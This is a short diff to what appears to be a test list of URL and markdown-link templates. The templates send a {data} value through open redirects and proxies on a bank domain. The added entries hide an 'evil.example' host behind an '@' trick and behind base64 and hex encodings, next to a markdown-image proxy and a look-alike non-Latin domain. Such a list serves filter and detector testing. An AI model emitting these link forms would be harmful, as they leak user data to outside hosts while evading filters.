@@ -93,6 +93,9 @@ FORMS: tuple[str, ...] = (
     "See https://bank.example/r#//{host}/{data}",
     "See https://bank.example/r?u=\\\\{host}\\{data}",
     "![x](https://bank.example/proxy?src=https:{host}/{data})",
+    "See https://bank.example/r?u=@{host}/{data}",
+    "See https://bank.example/r?u=aHR0cHM6Ly9ldmlsLmV4YW1wbGUv{data}",
+    "See https://bank.example/r?u=68747470733a2f2f6576696c2e6578616d706c652f&d={data}",
     "[x](https://bank.example/login?return=http://{host}/{data})",
     # names of hosts in other scripts
     "See \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/{data}",
